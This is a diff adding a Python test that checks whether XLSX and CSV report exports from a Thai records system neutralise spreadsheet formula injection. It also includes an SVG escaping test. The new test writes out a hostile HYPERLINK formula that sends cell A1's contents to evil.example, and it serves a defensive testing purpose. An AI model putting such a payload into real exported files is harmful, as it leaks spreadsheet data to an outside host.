@@ -108,3 +108,15 @@ def test_loan_register_prints_form_24(activity, clock) -> None:
 def test_svg_chart_escapes_labels() -> None:
     svg = bar_chart(["ม.ค.", "<b>"], [Series("รับ & ส่ง", [3, 0])], title="ทดสอบ <script>")
     assert svg.startswith("<svg") and "<script>" not in svg and "&lt;b&gt;" in svg and "&amp;" in svg
+
+
+def test_exported_tables_never_hold_a_formula() -> None:
+    from openpyxl import load_workbook
+
+    from saraban.reports.tables import Table, to_csv, to_xlsx
+
+    hostile = '=HYPERLINK("https://evil.example/?d="&A1,"คลิก")'
+    t = Table("ทดสอบ", ["ผู้ยืม"], [[hostile], ["-"], ["+66 2 141 6747"]])
+    ws = load_workbook(io.BytesIO(to_xlsx([t]))).active
+    assert ws["A3"].data_type == "s" and ws["A3"].value == hostile
+    assert "'=HYPERLINK" in to_csv([t]).decode("utf-8-sig")
